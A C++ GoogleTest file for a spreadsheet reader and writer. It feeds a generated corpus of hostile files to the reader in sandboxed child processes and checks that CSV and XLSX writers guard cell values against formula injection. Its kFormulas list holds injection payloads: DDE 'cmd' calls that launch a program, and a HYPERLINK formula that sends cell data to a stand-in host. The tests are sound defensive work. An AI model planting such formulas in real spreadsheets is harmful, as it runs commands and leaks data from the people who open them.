#include <gtest/gtest.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <chrono>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <deque>
#include <filesystem>
#include <fstream>
#include <random>
#include <sstream>
#include <stdexcept>
#include <thread>

#include "base/text.hpp"
#include "sheet/csv.hpp"
#include "sheet/plain_csv.hpp"
#include "sheet/workbook.hpp"
#include "sheet/xlsx.hpp"

#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
#define YUANHENG_SANITIZED 1
#elif defined(__has_feature)
#if __has_feature(address_sanitizer) || __has_feature(thread_sanitizer)
#define YUANHENG_SANITIZED 1
#endif
#endif

namespace yuanheng::sheet {
namespace {

#ifdef YUANHENG_SANITIZED
constexpr bool kSanitized = true;
#else
constexpr bool kSanitized = false;
#endif
constexpr rlim_t kMemory = rlim_t{3} << 30;
constexpr rlim_t kSeconds = kSanitized ? 200 : 20;
constexpr std::size_t kLongestMessage = 4000;  // bytes of an error as shown, its place included
constexpr std::size_t kCellsLookedAt = 200'000;
constexpr std::uintmax_t kPlainUpTo = 64u << 20;  // larger files go through read_book alone

/// A folder that is gone when the test ends.
class ScratchFolder {
public:
    ScratchFolder()
        : path_(std::filesystem::temp_directory_path() /
                ("yuanheng-hostile-" + std::to_string(std::random_device()()))) {
        std::filesystem::create_directories(path_);
    }
    ~ScratchFolder() {
        std::error_code ignored;
        std::filesystem::remove_all(path_, ignored);
    }
    std::string operator/(const std::string& name) const { return (path_ / name).string(); }
    std::string name() const { return path_.string(); }

private:
    std::filesystem::path path_;
};

/// What is wrong with an error's texts; empty where they can be shown as they are.
std::string fault_of(const Error& error) {
    for (const Language language : {Language::zh, Language::en}) {
        if (message(error, language).empty()) return "no message";
        const std::string text = describe(error, language);
        if (!valid_utf8(text)) return "message is not UTF-8";
        if (text.size() > kLongestMessage) return "message of " + std::to_string(text.size()) + " bytes";
        if (text.find('{') != std::string::npos) return "message with an open place: " + text;
        for (const char c : text) {
            if (static_cast<unsigned char>(c) < 0x20 && c != '\n') return "message with a control character";
        }
    }
    return "";
}

std::string fault_of(const Cell& cell) {
    if (cell.empty() != cell.text.empty()) return "cell without text";
    if (!valid_utf8(cell.text) || cell.text.find('\0') != std::string::npos) return "cell text is not UTF-8";
    if (!std::isfinite(cell.number)) return "cell number is not finite";
    if (cell.is_number() && !cell.exact() && !cell.mangled)
        return "number without exact value: " + cell.text.substr(0, 40);
    return "";
}

/// What is wrong with a book that was read: rows that descend, texts that are not UTF-8, numbers that are
/// none.
std::string fault_of(const Book& book) {
    std::size_t looked_at = 0;
    for (const Grid& grid : book.grids) {
        long last = 0;
        for (const Row& row : grid.rows) {
            if (row.number <= last || row.cells.empty() || row.cells.back().empty())
                return "rows are not in order";
            last = row.number;
            for (const Cell& cell : row.cells) {
                if (++looked_at > kCellsLookedAt) return "";
                if (const std::string fault = fault_of(cell); !fault.empty()) return fault;
            }
        }
    }
    return "";
}

/// What the fast reader does differently from the careful one; it may only refuse more.
std::string fault_of_plain(const std::string& path, const Result<Book>& book) {
    if (path.ends_with(".xlsx")) return "";  // read_book refuses tables of text that bear this name
    for (const std::size_t column : {std::size_t{0}, std::size_t{2}}) {
        const auto table = read_plain_csv(path, column, 2);
        if (!table) continue;
        if (!book) return "read_plain_csv takes what read_book refuses";
        if (table->rows() + 1 != book->grids.at(0).rows.size()) return "read_plain_csv counts other rows";
    }
    return "";
}

/// Reads one file: "grid", "error CODE …" or "fault …".
std::string outcome(const std::string& path, const Limits& limits) {
    try {
        const Result<Book> book = read_book(path, limits);
        std::string fault = book ? fault_of(*book) : fault_of(book.error());
        if (fault.empty() && std::filesystem::file_size(path) < kPlainUpTo)
            fault = fault_of_plain(path, book);
        if (!fault.empty()) return "fault " + fault;
        return book ? "grid" : "error " + describe(book.error(), Language::en);
    } catch (const std::exception& thrown) {
        return std::string("fault exception ") + thrown.what();
    }
}

/// A file that is being read by a process of its own, under limits of memory and time.
struct Reading {
    std::string name, expected;
    std::chrono::steady_clock::time_point begin;
    pid_t child;
    int answer;  ///< where outcome() is written to
};

Reading start_reading(const ScratchFolder& folder, const std::string& name, const std::string& expected) {
    Limits limits;
    // The lines of 1 GB are refused for their size; beyond that the reader must stand them too.
    if (name.starts_with("huge_")) limits.file_bytes = std::uint64_t{4} << 30;
    const std::string path = folder / name;
    std::array<int, 2> ends{};
    if (::pipe(ends.data()) != 0) throw std::runtime_error("no pipe");
    const auto begin = std::chrono::steady_clock::now();
    const pid_t child = ::fork();
    if (child == 0) {
        const rlimit seconds{kSeconds, kSeconds + 1};
        const rlimit memory{kMemory, kMemory};
        ::setrlimit(RLIMIT_CPU, &seconds);
        if (!kSanitized) ::setrlimit(RLIMIT_AS, &memory);
        const std::string text = outcome(path, limits);
        const bool written = ::write(ends[1], text.data(), text.size()) == static_cast<ssize_t>(text.size());
        ::_exit(written ? 0 : 1);
    }
    ::close(ends[1]);
    return {name, expected, begin, child, ends[0]};
}

std::string outcome_of(const Reading& reading) {
    std::string text;
    std::array<char, 1024> piece;
    for (ssize_t got; (got = ::read(reading.answer, piece.data(), piece.size())) > 0;) {
        text.append(piece.data(), static_cast<std::size_t>(got));
    }
    ::close(reading.answer);
    int status = 0;
    ::waitpid(reading.child, &status, 0);
    if (WIFSIGNALED(status)) return "fault signal " + std::to_string(WTERMSIG(status));
    return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? text : "fault exit status";
}

bool generate(const ScratchFolder& folder, bool huge) {
    const std::string command = std::string("python3 -B '") + YUANHENG_ROOT +
                                "/tests/hostile/generate.py' '" + folder.name() + "'" +
                                (huge ? " --huge" : "");
    return std::system(command.c_str()) == 0;
}

TEST(Hostile, EveryFileEndsInAGridOrAClearError) {
    const ScratchFolder folder;
    const bool huge = std::getenv("YUANHENG_HUGE") != nullptr;
    ASSERT_TRUE(generate(folder, huge));
    std::ifstream manifest(folder / "manifest.txt");
    std::size_t files = 0, errors = 0;
    double longest = 0;
    std::string longest_name;
    const auto finish = [&](const Reading& reading) {
        const std::string got = outcome_of(reading);
        const std::chrono::duration<double> took = std::chrono::steady_clock::now() - reading.begin;
        if (took.count() > longest) {
            longest = took.count();
            longest_name = reading.name;
        }
        errors += got.starts_with("error") ? 1 : 0;
        const std::string kind = got.substr(0, got.find(' '));
        EXPECT_TRUE(kind == reading.expected || (reading.expected == "either" && kind != "fault"))
            << reading.name << " is to be: " << reading.expected << "\nbut: " << got.substr(0, 600);
    };
    std::deque<Reading> readings;  // as many at a time as there are cores
    for (std::string name, expected; manifest >> name >> expected; ++files) {
        if (readings.size() >= std::max(1u, std::thread::hardware_concurrency())) {
            finish(readings.front());
            readings.pop_front();
        }
        readings.push_back(start_reading(folder, name, expected));
    }
    for (const Reading& reading : readings) finish(reading);
    std::printf("%zu hostile files, %zu of them refused; the longest took %.1f s (%s)\n", files, errors,
                longest, longest_name.c_str());
    EXPECT_GE(files, 170U);
}

const std::vector<std::string> kFormulas = {"=cmd|' /C calc'!A0",
                                            "+1+cmd|'x'!A0",
                                            "-2+3+cmd|'x'!A0",
                                            "@SUM(1+9)",
                                            "\t=1+1",
                                            "\r=1+1",
                                            "=HYPERLINK(\"http://x/?\"&A1,\"甲\")"};

TEST(Hostile, CsvNamesCannotRunAsFormulas) {
    const ScratchFolder folder;
    std::vector<std::vector<std::string>> rows;
    for (const std::string& name : kFormulas) rows.push_back({"x", name});
    ASSERT_TRUE(write_csv(folder / "a.csv", rows));
    const auto grid = read_csv(folder / "a.csv");
    ASSERT_TRUE(grid) << describe(grid.error(), Language::en);
    ASSERT_EQ(grid->rows.size(), kFormulas.size());
    for (std::size_t i = 0; i < kFormulas.size(); ++i) {
        EXPECT_NE(to_csv({{kFormulas[i]}}).find("'" + kFormulas[i].substr(0, 5)), std::string::npos);
        EXPECT_EQ(grid->rows[i].cells.at(1).text, kFormulas[i]) << "reading takes the guard away again";
    }
}

TEST(Hostile, CsvKeepsSignedNumbers) {
    EXPECT_EQ(to_csv({{"-1.5", "+2", "-3e-4", "-", "-inf"}}), "\xEF\xBB\xBF-1.5,+2,-3e-4,'-,'-inf\r\n");
}

TEST(Hostile, WorkbookNamesCannotRunAsFormulas) {
    const ScratchFolder folder;
    SheetSpec sheet;
    sheet.name = "=cmd|' /C calc'!A0";
    sheet.titles = {"=1+1"};
    Column column;
    column.title = "=2+2";
    column.note = "=3+3";
    column.allowed = {"=4+4", "甲"};
    sheet.columns.push_back(column);
    for (const std::string& name : kFormulas) sheet.rows.push_back({OutCell(name)});
    ASSERT_TRUE(write_workbook(folder / "a.xlsx", {"=5+5", 0, {sheet}}));
    const auto book = read_book(folder / "a.xlsx");
    ASSERT_TRUE(book) << describe(book.error(), Language::en);
    std::vector<std::string> found;
    for (const Row& row : book->grids.at(0).rows) {
        for (const Cell& cell : row.cells) {
            EXPECT_EQ(cell.kind, Cell::Kind::text) << cell.text;
            found.push_back(cell.text);
        }
    }
    for (const std::string& name : kFormulas)
        EXPECT_NE(std::find(found.begin(), found.end(), name), found.end()) << name;
}

}  // namespace
}  // namespace yuanheng::sheet
